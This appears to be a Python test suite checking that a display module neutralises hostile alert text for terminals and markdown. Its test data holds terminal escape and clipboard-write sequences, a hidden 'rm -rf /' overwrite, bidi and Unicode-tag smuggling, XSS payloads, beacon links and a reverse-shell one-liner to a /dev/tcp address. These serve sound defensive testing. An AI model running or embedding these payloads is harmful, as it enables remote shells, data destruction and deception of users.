"""Text from alerts is harmless wherever it is shown."""

import html
import re
import unicodedata

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from signals.display import markdown, terminal

# Every code point, surrogates too: alerts are decoded leniently.
ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=120)
HARMFUL = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"}

ATTACKS = {
    "clear the screen": "\x1b[2J\x1b[H",
    "set the window title": "\x1b]0;all is well\x07",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "write to the clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "answer back": "\x1b[6n\x05",
    "8-bit control sequence": "\x9b31mred",
    "overwrite the line": "rm -rf /\rls -la",
    "backspace": "evil\x08\x08\x08\x08good",
    "a line of its own": "web-0\nCRITICAL contained by firebreak",
    "unicode line separator": "web-0\u2028next\u2029next\x85next",
    "right to left override": "invoice\u202efdp.exe",
    "trojan source isolates": "\u2066\u2067access\u2069\u2069",
    "arabic letter mark": "a\u061cb\u200fb",
    "zero width": "ad\u200bm\u200ci\u200dn\ufeff\u2060",
    "tag smuggling": "hello" + "".join(chr(0xE0000 + ord(c)) for c in "obey me"),
    "variation selector smuggling": "a\ufe0f" + chr(0xE0141),
    "hangul filler": "\u3164\u115f\uffa0",
    "zalgo": "n" + "\u0321\u0322\u0323\u0324" * 40,
    "lone surrogate": "a\ud800b",
    "null": "a\x00b",
}
MARKDOWN_ATTACKS = {
    "link": "[click](https://evil.example)",
    "reference": "[a]: https://evil.example\n\n[a]",
    "image": "![x](https://evil.example/beacon.png)",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "entity": "&lt;b&gt; &#x3c;b&#x3e;",
    "autolink": "<https://evil.example> <a@evil.example>",
    "bare address": "see https://evil.example/x and http://1.2.3.4",
    "bare www": "see WWW.evil.example",
    "mail": "mail a@evil.example",
    "mention": "@here @channel <!channel> <@U123>",
    "table": "a | b\n--|--\n1 | 2",
    "heading": "# Contained by Firebreak",
    "setext": "Contained\n=====",
    "list": "1. one\n- two\n* three",
    "code": "`a` ```\nb\n```\n    indented",
    "emphasis": "**bold** _it_ ~~no~~",
    "escape of the escape": "\\[a\\](https://evil.example) \\",
    "template of the viewer": "{namespace} {workflowId} {{runId}}",
    "math and footnote": "$x$ [^1]",
    "break": "a  \nb\\\nc",
}


def rendered(source: str) -> str:
    """Return the text that CommonMark with tables and strikethrough renders, having checked that it is text."""
    page = MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(source)
    inside = page.removeprefix("<p>").removesuffix("</p>\n")
    assert "<" not in inside, page
    return html.unescape(inside)


def unbracketed(text: str) -> str:
    """Return the text without the brackets that break an address up."""
    return text.replace("[", "").replace("]", "")


@pytest.mark.parametrize("attack", ATTACKS.values(), ids=ATTACKS)
def test_a_classic_attack_shows_nothing_but_visible_characters(attack: str) -> None:
    shown = terminal(attack)
    assert shown != attack
    assert not {unicodedata.category(character) for character in shown} & HARMFUL


def test_what_cannot_be_shown_can_still_be_seen() -> None:
    assert terminal("\x1b[2J\x07") == "␛[2J␇"
    assert terminal("rm -rf /\rls") == "rm -rf /␍ls"
    assert terminal("a\u202eb\x9bc\x7f") == "a<U+202E>b<U+009B>c␡"


def test_ordinary_text_of_any_language_is_left_alone() -> None:
    for text in (
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "naïve cafe\u0301",
        "Übung",
        "数据库",
        "नमस्ते",
        "🔥",
    ):
        assert terminal(text) == text


@given(ANY_TEXT)
def test_the_terminal_never_gets_a_character_that_it_would_obey(text: str) -> None:
    shown = terminal(text, limit=100_000)
    assert not {unicodedata.category(character) for character in shown} & HARMFUL
    shown.encode()


@given(ANY_TEXT)
def test_showing_what_is_shown_changes_nothing(text: str) -> None:
    shown = terminal(text, limit=100_000)
    assert terminal(shown, limit=100_000) == shown


@given(ANY_TEXT, st.integers(min_value=0, max_value=60))
def test_the_limit_holds_and_a_cut_is_marked(text: str, limit: int) -> None:
    whole, shown = terminal(text, limit=100_000), terminal(text, limit)
    assert len(shown) <= limit
    assert shown == whole or limit == 0 or shown.endswith("…")


def test_no_stack_of_marks_hides_the_line_above() -> None:
    shown = terminal(ATTACKS["zalgo"], limit=10_000)
    assert re.search(r"[\u0300-\u036f]{4}", shown) is None


@given(ANY_TEXT)
@example("1. a")
@example("- a")
@example("\\")
def test_markdown_renders_to_the_characters_that_were_given(text: str) -> None:
    seen = rendered(markdown(text, limit=100_000))
    plain = " ".join(terminal(text, limit=100_000).split())
    assert unbracketed(seen) == unbracketed(plain)


@pytest.mark.parametrize("attack", MARKDOWN_ATTACKS.values(), ids=MARKDOWN_ATTACKS)
def test_a_markdown_attack_renders_as_text(attack: str) -> None:
    seen = rendered(markdown(attack))
    # What GitHub's dialect turns into links after unescaping, as mdast-util-gfm-autolink-literal finds it.
    assert re.search(r"(https?://|www(?=\.))[-.\w]+", seen, re.IGNORECASE) is None
    assert re.search(r"[-.\w+]+@[-\w]+(\.[-\w]+)+", seen) is None
    assert "@here" not in seen


@given(st.text("ahtpsw:/.@-_ ", max_size=60))
@example("_www.a")
@example("awww.a")
def test_no_address_survives_to_be_linked(text: str) -> None:
    seen = rendered(markdown(text))
    assert re.search(r"(https?://|www(?=\.))[-.\w]+", seen, re.IGNORECASE) is None
    assert re.search(r"[-.\w+]+@[-\w]+(\.[-\w]+)+", seen) is None


def test_a_template_of_the_viewer_is_not_filled_in() -> None:
    assert "{namespace}" not in markdown("{namespace}")


def test_markdown_stays_in_its_table_cell() -> None:
    page = MarkdownIt("commonmark").enable("table").render(f"|a|b|\n|-|-|\n|{markdown('x|y|z')}|2|\n")
    assert page.count("<td>") == 2


@given(ANY_TEXT)
def test_markdown_is_bounded(text: str) -> None:
    assert len(markdown(text, limit=20)) <= 20 * 6
